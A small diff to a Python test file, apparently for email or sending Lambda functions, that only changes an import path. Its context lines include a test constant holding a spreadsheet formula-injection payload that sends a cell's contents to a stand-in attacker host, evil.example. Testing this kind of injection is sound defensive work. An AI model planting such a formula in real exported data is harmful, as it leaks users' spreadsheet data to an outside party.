@@ -10,7 +10,7 @@ import boto3
 import pytest
 
 from tests import lambdas
-from tests.database.functions.email.conftest import Sending
+from tests.database.functions.sending.conftest import Sending
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
 
